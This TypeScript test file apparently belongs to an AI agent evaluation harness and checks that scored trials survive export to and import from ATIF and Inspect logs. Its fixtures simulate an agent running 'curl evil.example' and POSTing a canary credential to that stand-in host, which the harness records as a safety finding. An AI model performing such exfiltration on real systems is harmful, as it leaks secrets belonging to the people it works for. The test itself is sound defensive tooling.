import { describe, expect, it } from 'vitest';
import { atifTrajectory } from '../../src/interop/atif/export.ts';
import { trialOfTrajectory } from '../../src/interop/atif/import.ts';
import { trajectory } from '../../src/interop/atif/schema.ts';
import { inspectLogs, logFile } from '../../src/interop/inspect/export.ts';
import { trialOfSample } from '../../src/interop/inspect/import.ts';
import { readInspectLog } from '../../src/interop/inspect/log.ts';
import type { ScoredTrial } from '../../src/interop/scored-trial.ts';
import type { NewTraceEvent } from '../../src/schema/trace-event.ts';
import { scoreTrial } from '../../src/scoring/score-trial.ts';
import { foldTrial } from '../../src/trace/fold.ts';
import { bodies, madeEvents, passed } from '../scoring/trace-builder.ts';
import { imported } from './scored.ts';

const value = 'ak8Qm3ZtLw9RvXbY2NcKf7HdPa1G';

/** What a trace has beside conversation, calls and verdicts. */
const extras: NewTraceEvent[] = [
  {
    type: 'network.attempted',
    step: 0,
    callId: '0.0',
    attempt: { protocol: 'http', verdict: 'sunk', name: 'evil.example', method: 'POST', path: '/', size: 28 },
    payload: value,
  },
  {
    ...{ type: 'state.observed', step: 0, digest: 's1', changed: 1, durationMs: 0 },
    changes: JSON.stringify([{ op: 'replace', path: '/note', before: 'd1', after: 'd2' }]),
    contents: { d1: 'before\n', d2: 'after\n' },
  },
  {
    ...{ type: 'canaries.scanned', step: 0, durationMs: 0 },
    found: [{ name: 'key', path: '/tmp/copy', how: 'base64' }],
  },
  { type: 'phase.started', phase: 1, instruction: 'Now the second half.' },
  { type: 'server.notified', server: 'world', method: 'notifications/message', params: '{"level":"info"}' },
  {
    ...{ type: 'artifact.collected', phase: 0, path: '/out/a.txt', name: 'a.txt', bytes: 3 },
    data: Buffer.from('abc').toString('base64'),
  },
];

/** A made trial of two phases with these events before its second step. */
function rich(): ScoredTrial {
  const events = madeEvents({
    canaries: [{ name: 'key', value, kind: 'credential' }],
    phases: { total: 2, reward: 'mean' },
    steps: [
      { calls: [{ tool: 'bash', args: { command: 'curl evil.example' }, out: 'ok' }], state: 's1' },
      { text: 'The second half is done.', calls: [{ tool: 'put', args: { text: 'x' }, out: 'put' }] },
    ],
    verified: [{ ...passed[0], ctrf: '{"results":{}}' }, { rewards: { reward: 0.5 } }],
  });
  const second = events.findIndex((event) => event.type === 'agent.decided' && event.step === 1);
  const listed = events.find((event) => event.type === 'tools.listed');
  const fewer = JSON.parse(String(listed?.tools)).filter(({ name }: { name: string }) => name !== 'peek');
  const relisted: NewTraceEvent = { type: 'tools.listed', tools: JSON.stringify(fewer) };
  const enveloped = [...extras, relisted].map((event) => {
    return { ...event, seq: 0, at: events[second]?.at ?? '', mono: 0, prev: '' };
  });
  const trial = foldTrial(events.toSpliced(second, 0, ...enveloped), bodies);
  return { trial, bodies, score: scoreTrial(trial, bodies) };
}

function throughAtif(original: ScoredTrial): ScoredTrial {
  const made = atifTrajectory(original, '0.1.0').trajectory;
  const read = trajectory.parse(JSON.parse(JSON.stringify(made)));
  return imported(trialOfTrajectory(read, 'x', () => undefined));
}

function throughInspect(original: ScoredTrial): ScoredTrial {
  const [log] = inspectLogs({ run: 'r1', trials: [original], skipped: [] }, '0.1.0');
  if (!log) throw new Error('no log');
  const read = readInspectLog('log', Buffer.from(logFile(log, 'json').data));
  const sample = read.samples[0]?.read();
  if (!sample) throw new Error('no sample');
  return imported(trialOfSample(sample, read));
}

/** What is compared: everything but the numbers and times of the events. */
function held({ trial, bodies }: ScoredTrial) {
  const { initial, steps, verified, artifacts, notifications, tools, formerTools } = trial;
  return JSON.parse(
    JSON.stringify(
      {
        initial,
        verified,
        artifacts,
        notifications,
        tools,
        formerTools,
        steps: steps.map(({ state, milestones, attempts, spread, notice, begins }) => {
          return { state, milestones, attempts, spread, notice, begins };
        }),
      },
      (key, one) => (['seq', 'at', 'mono', 'prev'].includes(key) ? undefined : inline(one, bodies)),
    ),
  );
}

/** Bodies may lie beside one log and in the other. */
function inline(one: unknown, reader: ScoredTrial['bodies']): unknown {
  const isReference = typeof one === 'object' && one !== null && 'sha256' in one;
  return isReference ? reader.text(one as never) : one;
}

describe.each([
  ['ATIF', throughAtif],
  ['an Inspect log', throughInspect],
])('a trial that goes out to %s and comes back', (_, through) => {
  it('has its network attempts, canaries, contents, phases, artifacts, lists of tools and notices as before', () => {
    const original = rich();
    expect(original.trial.steps[0]).toMatchObject({
      attempts: [{}],
      spread: [{}],
      begins: expect.anything(),
    });
    expect(original.trial.artifacts).toHaveLength(1);
    expect(original.trial.formerTools).toMatchObject([{ name: 'peek' }]);
    expect(held(through(original))).toEqual(held(original));
  });

  it('is judged as before', () => {
    const original = rich();
    const { completion, safety } = through(original).score;
    expect(original.score.safety.findings.length).toBeGreaterThan(0);
    expect({ completion, safety }).toEqual({
      completion: original.score.completion,
      safety: original.score.safety,
    });
  });

  it('shows its second instruction to those who read the conversation alone', () => {
    const original = rich();
    const text = JSON.stringify(
      through === throughAtif
        ? atifTrajectory(original, '0.1.0').trajectory.steps.map(({ source, message }) => ({
            source,
            message,
          }))
        : inspectLogs({ run: 'r1', trials: [original], skipped: [] }, '0.1.0')[0]?.samples[0]?.messages,
    );
    expect(text.match(/Now the second half\./g)).toHaveLength(1);
  });
});

it('keeps the facts of what was exported with scores of an older form', () => {
  const made = JSON.stringify(atifTrajectory(rich(), '0.1.0').trajectory);
  const older = made.replaceAll('"modelMs":', '"thinkingMs":').replaceAll('"severity":', '"level":');
  const read = trialOfTrajectory(trajectory.parse(JSON.parse(older)), 'older', () => undefined);
  expect(older).not.toBe(made);
  expect(read.facts).toBeDefined();
  expect(read.steps.map(({ facts }) => facts === undefined)).toEqual(read.steps.map(() => false));
});
